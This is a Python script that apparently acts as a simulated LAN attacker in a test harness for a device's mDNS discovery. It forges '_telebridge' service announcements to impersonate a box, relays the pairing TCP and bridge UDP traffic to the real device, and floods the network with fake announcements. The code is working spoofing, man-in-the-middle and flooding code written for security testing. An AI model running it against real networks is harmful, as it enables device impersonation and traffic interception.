#!/usr/bin/env python3
"""A stranger on the LAN, run inside its own network namespace by scripts/attack_rows/mdns.py:
it announces a box's name and id by mDNS with its own address, relays the pairing's TCP to the
real box, and relays UDP on the box's bridge port to it, counting what passes through.

    stranger.py forge OWN_IP NAME ID ROLE PAIRING PANEL_PORT BRIDGE_PORT REAL_IP COUNT_FILE SECONDS
    stranger.py flood OWN_IP COUNT TTL PANEL_PORT
"""

import json
import os
import selectors
import socket
import struct
import sys
import threading
import time

MDNS = ("224.0.0.251", 5353)
SERVICE = "_telebridge._udp.local."


def dns_name(n):
    out = b""
    for label in n.rstrip(".").split("."):
        b = label.encode()
        out += bytes([len(b)]) + b
    return out + b"\0"


def rr(name, kind, ttl, rdata, flush=True):
    cls = 0x8001 if flush else 0x0001
    return dns_name(name) + struct.pack(">HHIH", kind, cls, ttl, len(rdata)) + rdata


def announcement(own_ip, name, box_id, role, pairing, port, ttl=4500, host=None):
    instance = f"{name} {box_id[:4]}.{SERVICE}"
    host = host or f"stranger-{box_id}.local."
    txt = b"".join(bytes([len(s)]) + s for s in (f"v=1", f"id={box_id}", f"name={name}", f"role={role}",
                                                 f"pairing={pairing}") for s in [s.encode()])
    answers = [
        rr(SERVICE, 12, ttl, dns_name(instance), flush=False),
        rr(instance, 33, min(ttl, 120), struct.pack(">HHH", 0, 0, port) + dns_name(host)),
        rr(instance, 16, ttl, txt),
        rr(host, 1, min(ttl, 120), socket.inet_aton(own_ip)),
    ]
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(answers), 0, 0) + b"".join(answers)


def mdns_socket(own_ip):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((own_ip, 5353))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own_ip))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    return s


def tcp_relay(own_ip, port, real_ip, stop):
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((own_ip, port))
    srv.listen(16)
    srv.settimeout(0.2)

    def pipe(a, b):
        try:
            while True:
                d = a.recv(65536)
                if not d:
                    break
                b.sendall(d)
        except OSError:
            pass
        for s in (a, b):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    while not stop.is_set():
        try:
            c, _ = srv.accept()
        except socket.timeout:
            continue
        u = socket.create_connection((real_ip, port), timeout=5)
        threading.Thread(target=pipe, args=(c, u), daemon=True).start()
        threading.Thread(target=pipe, args=(u, c), daemon=True).start()


def udp_relay(own_ip, port, real_ip, counts, stop):
    front = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    front.bind((own_ip, port))
    sel = selectors.DefaultSelector()
    sel.register(front, selectors.EVENT_READ, None)
    backs = {}
    while not stop.is_set():
        for key, _ in sel.select(0.2):
            d, addr = key.fileobj.recvfrom(65536)
            counts["relayed"] += 1
            if key.data is None:
                b = backs.get(addr)
                if b is None:
                    b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    b.bind((own_ip, 0))
                    backs[addr] = b
                    sel.register(b, selectors.EVENT_READ, addr)
                b.sendto(d, (real_ip, port))
            else:
                front.sendto(d, key.data)


def forge(own_ip, name, box_id, role, pairing, panel_port, bridge_port, real_ip, count_file, seconds):
    stop = threading.Event()
    counts = {"relayed": 0, "announced": 0}
    threading.Thread(target=tcp_relay, args=(own_ip, int(panel_port), real_ip, stop), daemon=True).start()
    threading.Thread(target=udp_relay, args=(own_ip, int(bridge_port), real_ip, counts, stop), daemon=True).start()
    m = mdns_socket(own_ip)
    packet = announcement(own_ip, name, box_id, role, pairing, int(panel_port))
    end = time.monotonic() + float(seconds)
    next_say = 0
    while time.monotonic() < end:
        if time.monotonic() >= next_say:
            # Three packets a second apart, then one each 5 s.
            m.sendto(packet, MDNS)
            counts["announced"] += 1
            next_say = time.monotonic() + (1 if counts["announced"] < 3 else 5)
        with open(count_file + ".tmp", "w") as f:
            json.dump(counts, f)
        os.replace(count_file + ".tmp", count_file)
        time.sleep(0.2)
    stop.set()


def flood(own_ip, count, ttl, panel_port):
    m = mdns_socket(own_ip)
    for i in range(int(count)):
        box_id = f"{0xf00000000 + i:012x}"
        m.sendto(announcement(own_ip, f"flood{i}", box_id, "bridge", "open", int(panel_port), ttl=int(ttl)), MDNS)
        if i % 50 == 49:
            time.sleep(0.01)


if __name__ == "__main__":
    {"forge": forge, "flood": flood}[sys.argv[1]](*sys.argv[2:])
